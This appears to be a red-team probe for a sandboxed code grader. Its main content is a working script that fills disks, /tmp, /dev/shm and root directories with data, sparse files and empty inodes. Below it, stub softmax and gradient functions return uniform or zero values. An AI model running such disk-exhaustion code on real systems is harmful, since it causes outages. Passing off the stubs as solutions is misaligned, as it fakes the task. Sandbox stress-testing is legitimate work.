"""REDTEAM damage_fill_disk: fill every disk it can write to.

Attack: write 4 MiB chunks until the disk is full or the file-size limit strikes, in
its scratch folder, in /tmp, in /dev/shm, in HOME and in every writable folder it can
find, with SIGXFSZ ignored; then sparse files that claim terabytes; then as many
inodes (empty files) as it can in a few seconds.
Bound: the baseline; the writes land in the sandbox's bounded, private /tmp (or
nowhere) and are gone with the submission.
"""
import os
import signal
import time

import numpy as np

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
CHUNK = b"\0" * (4 << 20)
total = 0
for d in (os.getcwd(), "/tmp", "/dev/shm", os.environ.get("HOME", "/"), "/", "/dev"):
    for i in range(100):
        try:
            with open(os.path.join(d, f"fill{i}.bin"), "wb") as f:
                for _ in range(8):
                    f.write(CHUNK)
                    total += len(CHUNK)
        except OSError:
            break
        if total > 512 << 20:
            break
sparse = 0
for i in range(3):
    try:
        with open(f"sparse{i}.bin", "wb") as f:
            f.truncate(1 << 40)
            sparse += 1
    except OSError:
        break
inodes = 0
t0 = time.monotonic()
while time.monotonic() - t0 < 1.0:
    try:
        open(f"i{inodes}", "w").close()
        inodes += 1
    except OSError:
        break
print("REDTEAM wrote", total >> 20, "MiB,", sparse, "sparse files,", inodes, "inodes")


def softmax(x):
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)

